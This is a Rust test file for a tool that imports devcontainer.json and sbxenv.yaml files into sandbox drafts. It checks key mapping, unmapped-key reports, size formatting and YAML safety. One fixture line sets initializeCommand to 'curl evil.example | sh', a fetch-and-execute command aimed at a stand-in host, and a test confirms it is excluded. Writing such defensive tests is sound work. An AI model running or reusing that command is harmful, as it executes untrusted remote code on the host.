use super::*;
use crate::kit::parse;

const DEVCONTAINER: &str = r#"// made by an editor
{
  "name": "Shop (dev)",
  "image": "mcr.example/devcontainers/base",
  "containerEnv": {"NODE_ENV": "test", "TOKEN": "${localEnv:TOKEN}", "EMPTY": null,},
  "forwardPorts": [3000, "db:5432", "9000"],
  "portsAttributes": {"3000": {"label": "web", "requireLocalPort": true, "onAutoForward": "notify"}, "4000": {}},
  "postCreateCommand": {"deps": "npm ci", "db": ["npm", "run", "db setup"]},
  "onCreateCommand": "echo ${containerWorkspaceFolder}",
  "updateContentCommand": "make 'x: y' # z",
  "postStartCommand": "npm run dev &",
  "initializeCommand": "curl evil.example | sh",
  "hostRequirements": {"cpus": 4, "memory": "8gb", "storage": "64gb", "gpu": true},
  "mounts": ["source=${localEnv:HOME}/data,target=/data,type=bind,readonly", "type=volume,source=x,target=/x"],
  "workspaceFolder": "/workspaces/shop/packages/web",
  "remoteUser": "node",
  "quirk": 1
}
"#;

const DEVCONTAINER_DRAFT: &str = r#"metadata: {name: shop-dev}
spec:
  agent: shell
  workingDir: packages/web
  # mounts: [{source: "~/data", target: /data, access: read, why: imported}]  # a folder of the host: your decision
  env: {NODE_ENV: test}
  setup:
    create:
      - "make 'x: y' # z"
      - npm ci
      - "npm run 'db setup'"
    start:
      - "npm run dev &"
  ports:
    - {guest: 3000, host: 3000, fixed: true}  # web
    - {guest: 9000, host: 9000}
  resources:
    cpus: 4
    memory: 8GiB
    disk: 64GiB
"#;

fn body(imported: &Imported) -> String {
    imported.draft.render().split_once("kind: Sandbox\n").unwrap().1.to_owned()
}

fn told(imported: &Imported) -> Vec<(u32, String)> {
    imported.unmapped.iter().map(|one| (one.line, one.key.clone())).collect()
}

#[test]
fn a_devcontainer_becomes_a_draft_and_a_list() {
    let imported = devcontainer("devcontainer.json", DEVCONTAINER.as_bytes(), "shell").unwrap();
    assert_eq!(body(&imported), DEVCONTAINER_DRAFT);
    let expected = [
        (4, "image"),
        (5, "containerEnv.TOKEN"),
        (5, "containerEnv.EMPTY"),
        (6, "forwardPorts"),
        (7, "portsAttributes.3000.onAutoForward"),
        (7, "portsAttributes.4000"),
        (9, "onCreateCommand"),
        (12, "initializeCommand"),
        (13, "hostRequirements.gpu"),
        (14, "mounts"),
        (14, "mounts"),
        (16, "remoteUser"),
        (17, "quirk"),
    ];
    assert_eq!(told(&imported), expected.map(|(line, key)| (line, key.to_owned())));
}

/// Whatever the file says, each of its keys is in the draft or in the list.
#[test]
fn nothing_is_dropped() {
    let keys = [
        "image",
        "build",
        "features",
        "containerEnv",
        "remoteEnv",
        "forwardPorts",
        "appPort",
        "postCreateCommand",
        "postStartCommand",
        "hostRequirements",
        "mounts",
        "workspaceFolder",
        "secrets",
        "customizations",
        "novel",
    ];
    for key in keys {
        for value in ["1", "\"x\"", "[1]", "[\"x\"]", "{\"x\": 1}", "true"] {
            let text = format!("{{\"{key}\": {value}}}");
            let imported = devcontainer("d", text.as_bytes(), "shell").unwrap();
            let kept = imported.draft.entries.iter().filter(|entry| entry.from.is_some()).count();
            assert!(kept + imported.unmapped.len() > 0, "{text} came to nothing");
        }
    }
    for key in [
        "args",
        "kits",
        "workspace",
        "additionalWorkspaces",
        "env",
        "sandboxOptions",
        "secrets",
        "bindings",
        "registries",
        "mcp",
        "ports",
        "lifecycle",
        "novel",
    ] {
        for value in ["1", "x", "[1]", "[x]", "{x: 1}", "[{x: 1}]", "true"] {
            let text = format!("{key}: {value}\n");
            let imported = sbxenv("s", text.as_bytes(), "shell", &|_| true, &|_| true).unwrap();
            let kept = imported.draft.entries.iter().filter(|entry| entry.from.is_some()).count();
            assert!(kept + imported.unmapped.len() > 0, "{text} came to nothing");
        }
    }
}

#[test]
fn what_would_run_on_the_host_is_in_no_draft() {
    for text in ["{\"initializeCommand\": \"touch /tmp/x\"}", "{\"postAttachCommand\": \"touch /tmp/x\"}"] {
        let imported = devcontainer("d", text.as_bytes(), "shell").unwrap();
        assert!(!imported.draft.render().contains("touch"), "{text}");
    }
    let text = "agent: x\nlifecycle: {initialize: [{command: touch /tmp/x}]}\nmcp: {servers: [{name: a, command: touch}]}\n";
    let imported = sbxenv("s", text.as_bytes(), "shell", &|_| false, &|_| false).unwrap();
    assert!(!imported.draft.render().contains("touch"));
    // The break: a command that runs in the container is kept, so the words above would have been seen.
    let kept = devcontainer("d", b"{\"postCreateCommand\": \"touch /tmp/x\"}", "shell").unwrap();
    assert!(kept.draft.render().contains("touch"));
}

const SBXENV: &str = r#"schemaVersion: "1"
name: Shop
agent: claude
args: {level: {default: 1}}
kits: [./kits/review, {source: https://kits.example/x, args: {a: 1}}]
workspace: {path: ., clone: true}
additionalWorkspaces: [{path: ../docs, readOnly: true}]
env: {NODE_ENV: test, LEVEL: "${{ env.args.level }}"}
sandboxOptions: {memory: 8g, cpus: 4, gpu: true, template: "docker.example/x:1"}
secrets: {github: {value: ghp_verysecret}, other: {command: [op, read, x]}}
bindings: {anthropic: {apiKey: {domains: [a.example]}}}
registries: {r.example: {secret: x}}
mcp: {servers: [{name: linear, url: "https://m.example"}]}
ports: [{sandbox: 3000, host: 8080}, {sandbox: 53, protocol: udp}]
lifecycle: {initialize: [{name: x, command: echo}]}
"#;

const SBXENV_DRAFT: &str = r#"metadata: {name: shop}
spec:
  agent: shell
  workspace: {path: ., mode: read}
  kits:
    - ./kits/review
    - "https://kits.example/x"
  template: {image: "docker.example/x:1"}
  # mounts: [{source: ../docs, access: read, why: imported}]  # a folder of the host: your decision
  env: {NODE_ENV: test}
  secrets: [github]
  ports: [{guest: 3000, host: 8080}]
  resources:
    memory: 8GiB
    cpus: 4
"#;

#[test]
fn an_sbxenv_becomes_a_draft_and_a_list() {
    let imported =
        sbxenv("sbxenv.yaml", SBXENV.as_bytes(), "shell", &|_| false, &|name| name == "github").unwrap();
    assert_eq!(body(&imported), SBXENV_DRAFT);
    let expected = [
        (3, "agent"),
        (4, "args"),
        (5, "kits.args"),
        (6, "workspace.clone"),
        (7, "additionalWorkspaces"),
        (8, "env.LEVEL"),
        (9, "sandboxOptions.gpu"),
        (10, "secrets.github.value"),
        (10, "secrets.other"),
        (10, "secrets.other.command"),
        (11, "bindings"),
        (12, "registries"),
        (13, "mcp.servers.linear"),
        (14, "ports.protocol"),
        (15, "lifecycle"),
    ];
    assert_eq!(told(&imported), expected.map(|(line, key)| (line, key.to_owned())));
    let all = format!("{:?}{}", imported.unmapped, imported.draft.render());
    assert!(!all.contains("verysecret"), "no value of a secret is repeated");
}

#[test]
fn what_is_no_such_file_is_refused_with_its_place() {
    for (text, message) in [("[]", "holds an object"), ("{", "key in double quotes")] {
        let problems = devcontainer("d", text.as_bytes(), "shell").unwrap_err();
        assert!(problems[0].message.contains(message), "{}", problems[0].message);
    }
    for text in ["- a\n", "a: 1\n---\nb: 2\n", "a: *x\n", ""] {
        assert!(sbxenv("s", text.as_bytes(), "shell", &|_| true, &|_| true).is_err(), "{text}");
    }
}

proptest::proptest! {
    /// A draft of hostile text is YAML with one document, whatever the text.
    #[test]
    fn no_text_breaks_out_of_its_line(text in "\\PC{0,30}|[\\x00-\\u{2fff}]{0,30}") {
        let json = serde_json::json!({
            "name": text, "containerEnv": {(text.clone()): text}, "postCreateCommand": text,
            "mounts": [format!("source={text},target={text}")], "workspaceFolder": format!("/workspaces/x/{text}"),
            "forwardPorts": [3000], "portsAttributes": {"3000": {"label": text}},
        });
        if let Ok(mut imported) = devcontainer("d", json.to_string().as_bytes(), "shell") {
            imported.draft.remarks.push(text.clone());
            for entry in 0..=imported.draft.entries.len() {
                let (documents, findings) = parse::documents("x", imported.draft.render().as_bytes());
                let found = findings.into_parts().0;
                // A key of `env` may be wrong; it is still one key.
                proptest::prop_assert!(documents.len() == 1, "{}\n{:?}", imported.draft.render(), found);
                if let Some(entry) = imported.draft.entries.get_mut(entry) {
                    entry.refused = Some(text.clone());
                }
            }
        }
    }
}

#[test]
fn words_take_the_form_that_they_need() {
    for (text, expected) in
        [("8gb", "8GiB"), ("512MB", "512MiB"), ("8g", "8GiB"), ("1tib", "1TiB"), ("4294967296", "4096MiB")]
    {
        let node = Node { span: Span::default(), kind: Kind::Text(text.to_owned()) };
        assert_eq!(size(&node).as_deref(), Some(expected), "{text}");
    }
    for (text, expected) in [("Shop (dev)", "shop-dev"), ("--", "dev"), ("\u{e9}a", "a"), ("A_b", "a-b")] {
        assert_eq!(slug(text), expected);
        assert!(slug(&text.repeat(60)).parse::<crate::model::name::Name>().is_ok());
    }
}
